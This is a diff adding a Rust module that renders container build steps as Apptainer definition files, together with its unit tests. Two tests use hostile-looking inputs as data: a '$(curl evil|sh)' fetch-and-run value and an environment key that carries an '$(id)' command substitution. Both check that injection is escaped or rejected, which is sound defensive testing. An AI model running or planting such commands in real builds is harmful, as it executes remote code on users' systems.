@@ -0,0 +1,487 @@
+// This Source Code Form is subject to the terms of the Mozilla Public License, v. 2.0.
+// If a copy of the MPL was not distributed with this file,
+// You can obtain one at <https://mozilla.org/MPL/2.0/>.
+
+use super::resolve::resolve_path;
+use super::{BuildStep, Container, ContainerBase, ContainerError, ResolvedContainer};
+use crate::shell;
+use std::fmt::{self, Write};
+
+/// Where an [`ApptainerDefinition`] gets its base filesystem from.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum ApptainerBootstrap {
+    /// Pull an OCI image from a registry (`Bootstrap: docker`).
+    Docker(String),
+
+    /// Start from a previously built image file (`Bootstrap: localimage`).
+    LocalImage(String),
+}
+
+/// Runtime settings a definition inherits from the images it is built on.
+///
+/// Apptainer does not carry environment variables or the working directory of a local base
+/// image into `%post`, so they are re-established explicitly to match Containerfile semantics.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+struct Inherited {
+    env: Vec<(String, String)>,
+    workdir: Option<String>,
+    entrypoint: Option<Vec<String>>,
+    cmd: Option<Vec<String>>,
+}
+
+impl Inherited {
+    /// Update the settings for a build step.
+    fn apply(&mut self, step: &BuildStep) {
+        match step {
+            BuildStep::Env { key, value } => self.env.push((key.clone(), value.clone())),
+            BuildStep::Workdir(path) => self.workdir = Some(self.resolve(path)),
+            BuildStep::Entrypoint(args) => {
+                self.entrypoint = Some(args.clone());
+                self.cmd = None;
+            }
+            BuildStep::Cmd(args) => self.cmd = Some(args.clone()),
+            BuildStep::Run(_) | BuildStep::Copy { .. } | BuildStep::Label { .. } => {}
+        }
+    }
+
+    /// Resolve a container path against the current working directory.
+    fn resolve(&self, path: &str) -> String {
+        resolve_path(self.workdir.as_deref(), path)
+    }
+}
+
+/// A single Apptainer (Singularity) definition file.
+///
+/// The `%files` section is copied in before `%post` runs, as Apptainer always does, so
+/// commands can rely on every file of the definition being present.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ApptainerDefinition {
+    /// The definition name, which is also the stem of the image file it builds.
+    pub name: String,
+
+    /// The base the definition bootstraps from.
+    pub bootstrap: ApptainerBootstrap,
+
+    /// The build steps applied by this definition.
+    pub steps: Vec<BuildStep>,
+
+    inherited: Inherited,
+}
+
+impl ApptainerDefinition {
+    /// The file name of the image this definition builds, such as `stage0.sif`.
+    pub fn image(&self) -> String {
+        format!("{}.sif", self.name)
+    }
+}
+
+/// The Apptainer definition files needed to build a container chain.
+///
+/// Apptainer builds one image per definition file, so each container in the chain becomes
+/// its own definition. The container based on an external image bootstraps from the registry
+/// with the fully qualified reference, and every descendant bootstraps from the image file
+/// built for its parent. Build the definitions in order, writing each to the file named by
+/// [`ApptainerDefinition::image`]; the last one is the container itself.
+///
+/// # Examples
+///
+/// ```
+/// use rivulet::container::{ApptainerBuild, Container};
+///
+/// let base = Container::from("alpine:3.19");
+/// let python = Container::from(&base);
+/// python.write().unwrap().run("apk add --no-cache python3");
+///
+/// let build = ApptainerBuild::new(&python.read().unwrap()).unwrap();
+/// let definitions = build.definitions();
+/// assert_eq!(
+///     definitions[0].to_string(),
+///     "Bootstrap: docker\nFrom: docker.io/library/alpine:3.19\n"
+/// );
+/// assert_eq!(
+///     definitions[1].to_string(),
+///     "Bootstrap: localimage\n\
+///      From: stage0.sif\n\
+///      \n\
+///      %post\n\
+///      apk add --no-cache python3\n"
+/// );
+/// assert_eq!(build.target().image(), "stage1.sif");
+/// ```
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ApptainerBuild {
+    definitions: Vec<ApptainerDefinition>,
+}
+
+impl ApptainerBuild {
+    /// Generate the definition files for a container and the chain it is based on.
+    ///
+    /// # Errors
+    ///
+    /// Returns [`ContainerError::Cycle`] if the chain loops back on itself, or
+    /// [`ContainerError::InvalidEnvKey`] if a step sets a variable with an invalid name.
+    pub fn new(container: &Container) -> Result<Self, ContainerError> {
+        let mut definitions: Vec<ApptainerDefinition> = Vec::new();
+        let mut inherited = Inherited::default();
+        for (index, layer) in container.lineage()?.into_iter().enumerate() {
+            let bootstrap = match (&layer.base, definitions.last()) {
+                (ContainerBase::External(selector), _) => {
+                    ApptainerBootstrap::Docker(selector.normalize().to_string())
+                }
+                (ContainerBase::Internal(_), Some(parent)) => {
+                    ApptainerBootstrap::LocalImage(parent.image())
+                }
+                (ContainerBase::Internal(_), None) => unreachable!("lineage starts at an image"),
+            };
+            let definition = ApptainerDefinition {
+                name: format!("stage{index}"),
+                bootstrap,
+                steps: layer.steps,
+                inherited: inherited.clone(),
+            };
+            for step in &definition.steps {
+                inherited.apply(step);
+            }
+            definitions.push(definition);
+        }
+        Ok(Self { definitions })
+    }
+
+    /// Generate a single definition for a resolved container.
+    ///
+    /// The steps of every layer are applied in one definition bootstrapped from the external
+    /// image, which builds the same image as the chain of definitions.
+    pub fn from_resolved(container: &ResolvedContainer) -> Self {
+        Self {
+            definitions: vec![ApptainerDefinition {
+                name: "stage0".to_string(),
+                bootstrap: ApptainerBootstrap::Docker(container.image().normalize().to_string()),
+                steps: container.layers().concat(),
+                inherited: Inherited::default(),
+            }],
+        }
+    }
+
+    /// The definitions in build order, from the external image to the container itself.
+    pub fn definitions(&self) -> &[ApptainerDefinition] {
+        &self.definitions
+    }
+
+    /// The final definition, which builds the container itself.
+    pub fn target(&self) -> &ApptainerDefinition {
+        &self.definitions[self.definitions.len() - 1]
+    }
+}
+
+/// The bodies of the sections of a definition file, empty for sections it leaves out.
+#[derive(Default)]
+struct Sections {
+    files: String,
+    post: String,
+    environment: String,
+    labels: String,
+    runscript: String,
+}
+
+impl ApptainerDefinition {
+    /// Write the `%files`, `%post` and `%labels` sections of the build steps, returning the
+    /// settings after them and whether they change what the image runs.
+    fn write_steps(&self, sections: &mut Sections) -> Result<(Inherited, bool), fmt::Error> {
+        let mut state = self.inherited.clone();
+        let mut runscript_changed = false;
+        let post = &mut sections.post;
+
+        let needs_post = self
+            .steps
+            .iter()
+            .any(|step| matches!(step, BuildStep::Run(_) | BuildStep::Workdir(_)));
+        if needs_post {
+            for (key, value) in &state.env {
+                writeln!(post, "export {key}={}", shell::quote_expanding(value))?;
+            }
+            if let Some(workdir) = &state.workdir {
+                writeln!(post, "cd {}", shell::quote(workdir))?;
+            }
+        }
+
+        for step in &self.steps {
+            match step {
+                BuildStep::Run(command) => writeln!(post, "{command}")?,
+                BuildStep::Copy {
+                    sources,
+                    destination,
+                } => {
+                    let destination = files_path(&state.resolve(destination));
+                    for source in sources {
+                        writeln!(sections.files, "{} {destination}", files_path(source))?;
+                    }
+                }
+                BuildStep::Env { key, value } if needs_post => {
+                    writeln!(post, "export {key}={}", shell::quote_expanding(value))?
+                }
+                BuildStep::Env { .. } => {}
+                BuildStep::Workdir(path) => {
+                    let path = shell::quote(&state.resolve(path));
+                    writeln!(post, "mkdir -p {path}\ncd {path}")?;
+                    runscript_changed = true;
+                }
+                BuildStep::Entrypoint(_) | BuildStep::Cmd(_) => runscript_changed = true,
+                BuildStep::Label { key, value } => writeln!(sections.labels, "{key} {value}")?,
+            }
+            state.apply(step);
+        }
+        Ok((state, runscript_changed))
+    }
+}
+
+impl fmt::Display for ApptainerDefinition {
+    /// Render the definition file.
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match &self.bootstrap {
+            ApptainerBootstrap::Docker(from) => writeln!(f, "Bootstrap: docker\nFrom: {from}")?,
+            ApptainerBootstrap::LocalImage(from) => {
+                writeln!(f, "Bootstrap: localimage\nFrom: {from}")?
+            }
+        }
+
+        let mut sections = Sections::default();
+        let (state, runscript_changed) = self.write_steps(&mut sections)?;
+        // A new %environment replaces the one of the base image, so it lists every variable
+        if state.env.len() > self.inherited.env.len() {
+            for (key, value) in &state.env {
+                let value = shell::quote_expanding(value);
+                writeln!(sections.environment, "export {key}={value}")?;
+            }
+        }
+        if runscript_changed && (state.entrypoint.is_some() || state.cmd.is_some()) {
+            write_runscript(&state, &mut sections.runscript)?;
+        }
+
+        for (section, body) in [
+            ("files", sections.files),
+            ("post", sections.post),
+            ("environment", sections.environment),
+            ("labels", sections.labels),
+            ("runscript", sections.runscript),
+        ] {
+            if !body.is_empty() {
+                write!(f, "\n%{section}\n{body}")?;
+            }
+        }
+        Ok(())
+    }
+}
+
+/// Write a `%runscript` starting the entrypoint and default command of a container.
+fn write_runscript(state: &Inherited, runscript: &mut String) -> fmt::Result {
+    if let Some(workdir) = &state.workdir {
+        writeln!(runscript, "cd {}", shell::quote(workdir))?;
+    }
+    // Arguments given to `apptainer run` replace the default command, as in Docker
+    if let Some(cmd) = &state.cmd {
+        runscript.push_str("if [ \"$#\" -eq 0 ]; then\nset --");
+        for arg in cmd {
+            write!(runscript, " {}", shell::quote(arg))?;
+        }
+        runscript.push_str("\nfi\n");
+    }
+    runscript.push_str("exec");
+    for arg in state.entrypoint.iter().flatten() {
+        write!(runscript, " {}", shell::quote(arg))?;
+    }
+    runscript.push_str(" \"$@\"\n");
+    Ok(())
+}
+
+/// Format a path for the `%files` section, which splits entries on whitespace.
+fn files_path(path: &str) -> String {
+    if path.contains(char::is_whitespace) {
+        format!("\"{path}\"")
+    } else {
+        path.to_string()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::str::FromStr;
+
+    /// Render the definition for a single container based on an external image.
+    fn render(steps: impl IntoIterator<Item = BuildStep>) -> String {
+        let mut container = Container::from_str("alpine").unwrap();
+        for step in steps {
+            container.step(step);
+        }
+        let rendered = ApptainerBuild::new(&container)
+            .unwrap()
+            .target()
+            .to_string();
+        rendered
+            .strip_prefix("Bootstrap: docker\nFrom: docker.io/library/alpine:latest\n")
+            .unwrap()
+            .to_string()
+    }
+
+    #[test]
+    fn test_single_definition() {
+        let container = Container::from_str("quay.io/biocontainers/salmon:1.5.2").unwrap();
+        let build = ApptainerBuild::new(&container).unwrap();
+        assert_eq!(build.definitions().len(), 1);
+        assert_eq!(
+            build.target().bootstrap,
+            ApptainerBootstrap::Docker("quay.io/biocontainers/salmon:1.5.2".to_string())
+        );
+        assert_eq!(build.target().image(), "stage0.sif");
+    }
+
+    #[test]
+    fn test_definitions_follow_lineage() {
+        let base = Container::from("alpine");
+        let middle = Container::from(&base);
+        let top = Container::from(&middle);
+
+        let build = ApptainerBuild::new(&top.read().unwrap()).unwrap();
+        let definitions = build.definitions();
+        assert_eq!(definitions.len(), 3);
+        assert_eq!(
+            definitions[1].bootstrap,
+            ApptainerBootstrap::LocalImage("stage0.sif".to_string())
+        );
+        assert_eq!(
+            definitions[2].bootstrap,
+            ApptainerBootstrap::LocalImage("stage1.sif".to_string())
+        );
+    }
+
+    #[test]
+    fn test_run_and_env_in_post() {
+        assert_eq!(
+            render([
+                BuildStep::Env {
+                    key: "PATH".to_string(),
+                    value: "/opt/bin:$PATH".to_string(),
+                },
+                BuildStep::Run("echo \"$PATH\"".to_string()),
+            ]),
+            "\n%post\n\
+             export PATH=\"/opt/bin:$PATH\"\n\
+             echo \"$PATH\"\n\
+             \n%environment\n\
+             export PATH=\"/opt/bin:$PATH\"\n"
+        );
+    }
+
+    #[test]
+    fn test_env_does_not_run_commands() {
+        let env = BuildStep::Env {
+            key: "X".to_string(),
+            value: "$(curl evil|sh) $((1 + 2))".to_string(),
+        };
+        let quoted = r#""\$(curl evil|sh) \$((1 + 2))""#;
+        assert_eq!(
+            render([env, BuildStep::Run("true".to_string())]),
+            format!("\n%post\nexport X={quoted}\ntrue\n\n%environment\nexport X={quoted}\n")
+        );
+    }
+
+    #[test]
+    fn test_invalid_env_key() {
+        let mut container = Container::from_str("alpine").unwrap();
+        container.env("X=$(id) Y", "1");
+        assert!(matches!(
+            ApptainerBuild::new(&container),
+            Err(ContainerError::InvalidEnvKey(key)) if key == "X=$(id) Y"
+        ));
+    }
+
+    #[test]
+    fn test_copy_resolves_against_workdir() {
+        assert_eq!(
+            render([
+                BuildStep::Workdir("/app".to_string()),
+                BuildStep::Copy {
+                    sources: vec!["my file.txt".to_string(), "src".to_string()],
+                    destination: "lib/".to_string(),
+                },
+            ]),
+            "\n%files\n\
+             \"my file.txt\" /app/lib/\n\
+             src /app/lib/\n\
+             \n%post\n\
+             mkdir -p /app\n\
+             cd /app\n"
+        );
+    }
+
+    #[test]
+    fn test_labels() {
+        assert_eq!(
+            render([BuildStep::Label {
+                key: "org.opencontainers.image.title".to_string(),
+                value: "salmon quant".to_string(),
+            }]),
+            "\n%labels\norg.opencontainers.image.title salmon quant\n"
+        );
+    }
+
+    #[test]
+    fn test_runscript_quotes_entrypoint() {
+        assert_eq!(
+            render([BuildStep::Entrypoint(vec![
+                "salmon".to_string(),
+                "--index=my index".to_string(),
+            ])]),
+            "\n%runscript\nexec salmon '--index=my index' \"$@\"\n"
+        );
+    }
+
+    #[test]
+    fn test_runscript_defaults_to_cmd() {
+        assert_eq!(
+            render([
+                BuildStep::Entrypoint(vec!["salmon".to_string()]),
+                BuildStep::Cmd(vec!["--help".to_string()]),
+            ]),
+            "\n%runscript\n\
+             if [ \"$#\" -eq 0 ]; then\n\
+             set -- --help\n\
+             fi\n\
+             exec salmon \"$@\"\n"
+        );
+        assert_eq!(
+            render([BuildStep::Cmd(vec!["sh".to_string()])]),
+            "\n%runscript\nif [ \"$#\" -eq 0 ]; then\nset -- sh\nfi\nexec \"$@\"\n"
+        );
+    }
+
+    #[test]
+    fn test_descendant_inherits_settings() {
+        let base = Container::from("alpine");
+        base.write()
+            .unwrap()
+            .env("LANG", "C.UTF-8")
+            .workdir("/work")
+            .entrypoint(["sh"]);
+        let derived = Container::from(&base);
+        derived.write().unwrap().run("make").workdir("build");
+
+        let build = ApptainerBuild::new(&derived.read().unwrap()).unwrap();
+        assert_eq!(
+            build.target().to_string(),
+            "Bootstrap: localimage\n\
+             From: stage0.sif\n\
+             \n%post\n\
+             export LANG=\"C.UTF-8\"\n\
+             cd /work\n\
+             make\n\
+             mkdir -p /work/build\n\
+             cd /work/build\n\
+             \n%runscript\n\
+             cd /work/build\n\
+             exec sh \"$@\"\n"
+        );
+    }
+}
+
+// EOF